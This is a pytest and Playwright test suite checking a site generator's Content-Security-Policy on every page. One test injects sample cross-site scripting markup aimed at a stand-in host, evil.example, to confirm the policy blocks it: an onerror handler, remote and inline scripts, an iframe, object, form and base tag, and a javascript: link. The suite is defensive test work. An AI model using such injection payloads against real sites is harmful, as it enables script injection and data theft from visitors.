"""The Content-Security-Policy: on every page, short, and in the way of nothing but strangers."""

from __future__ import annotations

import gzip
import re
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from sitegen.model.embeds import ORIGINS
from sitegen.render.policy import headers, policy
from tests.conftest import serving
from tests.world import Site, World

PAGES = ("/", "/@lin/", "/@lin/repair-emulsion/", "/products/cedar-candle/", "/posts/three-days-one-pouch/",
         "/circles/beauty/", "/events/dumplings/", "/@lin/thanks/", "/about/", "/404.html", "/emulsion/")  # fmt: skip
SAYS = re.compile(
    r'<head>\n<meta charset="utf-8">\n<meta http-equiv="content-security-policy" content="([^"]+)">', re.IGNORECASE
)
LISTEN = """
window.stopped = [];
document.addEventListener("securitypolicyviolation", event => stopped.push(event.violatedDirective));
"""

FILM = """
-- content/products/tea.md --
---
title: Tea
sku: T
price: 12
---
[How I make it](https://youtu.be/aqz-KE-bpKQ)
-- content/creators/lin.md --
---
name: Lin
---
"""


@pytest.fixture
def visitor(browser: Browser) -> Iterator[BrowserContext]:
    """Somebody whose browser notes what a policy stops."""
    context = browser.new_context()
    context.add_init_script(LISTEN)
    yield context
    context.close()


def stopped(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.stopped")
    return found


def test_every_page_says_its_policy_before_anything_it_rules(demo: Site) -> None:
    for address in demo.addresses():
        said = SAYS.search(demo.page(address))
        assert said, address
        assert said[1].startswith("default-src 'self';"), address


def test_a_policy_costs_little(demo: Site) -> None:
    page = demo.page("/@lin/repair-emulsion/")
    without = re.sub(r"<meta http-equiv=.content-security-policy[^>]*>\n", "", page)
    assert 0 < len(gzip.compress(page.encode())) - len(gzip.compress(without.encode())) <= 150


def test_only_pages_with_a_film_may_frame_its_service(world: Callable[..., World]) -> None:
    site = world(FILM).build()
    allowed = {
        address: "frame-src https://www.youtube-nocookie.com" in site.page(address) for address in site.addresses()
    }
    assert {address for address, may in allowed.items() if may} == {"/products/tea/", "/@lin/tea/"}


@pytest.mark.parametrize("path", PAGES)
def test_no_page_of_ours_runs_into_its_policy(path: str, visitor: BrowserContext, demo_address: str) -> None:
    page = visitor.new_page()
    page.goto(demo_address + path)
    page.evaluate("scrollTo(0, document.documentElement.scrollHeight)")
    page.wait_for_load_state("networkidle")
    assert stopped(page) == []


def test_what_a_stranger_could_smuggle_in_is_stopped(visitor: BrowserContext, demo_address: str) -> None:
    """Were markup to slip through, this is what would meet it."""
    visitor.route("https://**", lambda route: route.fulfill(body="window.canary = 1"))
    page = visitor.new_page()
    page.goto(demo_address + "/about/")
    page.evaluate("""
        document.body.insertAdjacentHTML("beforeend", `
            <img src=x onerror="window.canary = 1"> <img src="https://evil.example/spy.png">
            <iframe src="https://evil.example/"></iframe> <object data="https://evil.example/a.swf"></object>
            <form id=f action="https://evil.example/"><button>Pay</button></form>
            <a id=j href="javascript:window.canary=1">x</a>`);
        const inline = document.createElement("script"); inline.textContent = "window.canary = 1";
        const away = document.createElement("script"); away.src = "https://evil.example/x.js";
        const base = document.createElement("base"); base.href = "https://evil.example/";
        document.head.append(base, inline, away);
        document.getElementById("f").submit();
        document.getElementById("j").click();
    """)
    page.wait_for_timeout(300)
    assert page.evaluate("window.canary") is None
    assert page.evaluate("document.baseURI").startswith(demo_address)
    wanted = {"base-uri", "form-action", "frame-src", "img-src", "object-src", "script-src-elem", "script-src-attr"}
    assert wanted <= set(stopped(page))


def test_a_film_may_be_asked_for_and_nothing_else(world: Callable[..., World], visitor: BrowserContext) -> None:
    with serving(world(FILM).build().output) as address:
        page = visitor.new_page()
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.goto(address + "/@lin/tea/")
        page.frame_locator("iframe").locator("a.play").click()
        page.wait_for_timeout(200)
        assert [url for url in asked if url.startswith("https:")] == [
            "https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ?autoplay=1"
        ]
        assert stopped(page) == []
        page.evaluate("document.querySelector('iframe').outerHTML = '<iframe src=https://evil.example/></iframe>'")
        page.wait_for_timeout(100)
        assert stopped(page) == ["frame-src"]


def test_the_headers_allow_what_any_page_needs_and_say_what_a_page_cannot() -> None:
    sent = headers()["Content-Security-Policy"].split(";")
    assert sent == [*policy(ORIGINS).split(";"), "frame-ancestors 'self'"]
